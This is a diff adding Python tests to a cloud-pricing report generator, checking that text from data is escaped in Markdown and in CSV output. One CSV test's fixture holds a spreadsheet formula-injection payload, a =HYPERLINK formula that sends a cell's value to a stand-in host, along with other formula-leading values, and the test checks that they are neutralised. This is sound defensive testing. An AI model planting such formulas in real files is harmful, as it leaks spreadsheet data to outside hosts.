@@ -3,15 +3,19 @@ wording from templates with text from data escaped."""
 
 from __future__ import annotations
 
+import html
 import re
 
 import duckdb
 import polars as pl
+import pytest
 from builders import discard, open_copy
 from conftest import AS_OF
+from markdown_it import MarkdownIt
 
 from flows import offers_page, relations, reports
-from flows.formatting import md_escape, ratio, signed_usd, usd
+from flows.formatting import md_code, md_escape, md_line, ratio, signed_usd, usd
+from flows.report_templates import csv_text
 
 TRAINING_DECISION = (
     "- **[gpt3-175b-pretrain](gpt3-175b-pretrain.md)**: pick gcp tpu-v6e-8 (us-central1, spot, bf16, calibrated): "
@@ -273,6 +277,60 @@ def test_every_chart_on_disk_is_a_png_linked_from_its_page(flow_run):
 
 def test_text_from_data_never_breaks_a_line_or_a_table_cell():
     assert md_escape("line one\nline two | three\r\n- four") == "line one line two \\| three - four"
+
+
+# CommonMark with GitHub's tables and strikethrough, as the pages are read
+GFM = MarkdownIt("commonmark").enable(["table", "strikethrough"])
+
+
+def test_text_from_data_opens_no_emphasis_or_strikethrough():
+    # an underscore is escaped where it could open or close emphasis (not between two letters or digits: on_prem,
+    # Standard_ND96isr_H100_v5 stay as they are); every tilde is escaped (~~x~~ and ~x~ strike through)
+    text = "on_prem _owned_ ~~box~~ rack_ 7 __init__ Standard_ND96isr_H100_v5 ~390"
+    escaped = md_escape(text)
+    assert escaped == ("on_prem \\_owned\\_ \\~\\~box\\~\\~ rack\\_ 7 \\_\\_init\\_\\_ Standard_ND96isr_H100_v5 "
+                       "\\~390")
+    assert GFM.renderInline(escaped) == text  # drawn as written: no <em>, <strong> or <s>
+    # inside the page's own italics (a chart caption), a name ending in _ no longer ends them early
+    assert GFM.renderInline(f"_{md_escape('on_prem rack_ 7')} per chip-hour._") == "<em>on_prem rack_ 7 per chip-hour.</em>"
+
+
+@pytest.mark.parametrize("text", ["1. Fine-tune a model", "2) then", "- a list", "+ a list", "=====", "    indented",
+                                  "~~~ fence", "___", "--- break", "# heading", "> quote"])
+def test_text_from_data_that_opens_a_line_stays_a_paragraph(text):
+    # a workload's description opens a line of its page: its first characters must not make a list, a heading (or
+    # the underline of one), a code block or fence, a thematic break or a quote
+    assert GFM.render(md_line(text)) == f"<p>{html.escape(text.strip(), quote=False)}</p>\n"
+    # text that only starts like a number stays as it is: 15% is no list
+    assert md_line("15% cheaper") == "15% cheaper"
+
+
+def test_text_from_data_in_a_code_span_is_shown_exactly():
+    # a code span takes no backslash escapes: the fence outgrows the backticks in the text instead
+    assert md_code("price_positive") == "`price_positive`"
+    assert md_code("price*positive|`x") == "``price*positive|`x``"
+    assert md_code("`x") == "`` `x ``"
+    for text in ["price_positive", "price*positive|`x", "`x", "a``b", "<b>&"]:
+        assert GFM.renderInline(md_code(text)) == f"<code>{html.escape(text, quote=False)}</code>"
+
+
+def test_a_csv_cell_a_spreadsheet_would_run_as_a_formula_is_written_as_text():
+    # a price sheet's name becomes an offer's instance_type; its site the region
+    frame = pl.DataFrame({
+        "instance_type": ['=HYPERLINK("https://x.example/?d="&A2,"open")', "@SUM(1+1)", "+1", "-2", "\tx", "p5-48x",
+                          None],
+        "usd_per_hour": [-1.5, 2.0, 3.0, 4.0, 5.0, 6.0, 7.0],  # numbers are written as numbers, a minus and all
+    })
+    assert csv_text(frame).splitlines() == [
+        "instance_type,usd_per_hour",
+        '"\'=HYPERLINK(""https://x.example/?d=""&A2,""open"")",-1.5',
+        "'@SUM(1+1),2.0",
+        "'+1,3.0",
+        "'-2,4.0",
+        "'\tx,5.0",
+        "p5-48x,6.0",
+        ",7.0",
+    ]
 
 
 def test_the_offers_page_lists_each_instance_type_once_at_its_cheapest_term_and_says_where_every_offer_is(
